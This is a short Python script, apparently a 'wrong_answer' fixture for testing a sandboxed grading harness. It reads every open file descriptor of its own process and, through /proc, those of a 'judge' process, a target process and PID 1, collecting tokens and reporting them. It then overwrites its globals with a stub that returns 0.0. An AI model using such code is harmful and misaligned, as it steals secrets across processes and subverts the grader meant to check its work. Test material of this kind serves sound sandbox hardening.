"""vault wrong_answer 0: what lies behind every descriptor, its own and those of other processes."""
# tier: 1

import os

import forge

found = []
for number in range(256):
    try:
        found += forge.tokens(os.pread(number, 1 << 16, 0))
    except OSError:
        pass
for pid in ("self", forge.PREY.get("pid"), forge.PREY.get("judge"), 1):
    for number in range(64):
        try:
            found += forge.tokens(open(f"/proc/{pid}/fd/{number}", "rb", 0).read(1 << 16))
        except (OSError, ValueError):
            pass
if found:
    forge.shout(found)
forge.pretend(globals(), lambda *a: 0.0)
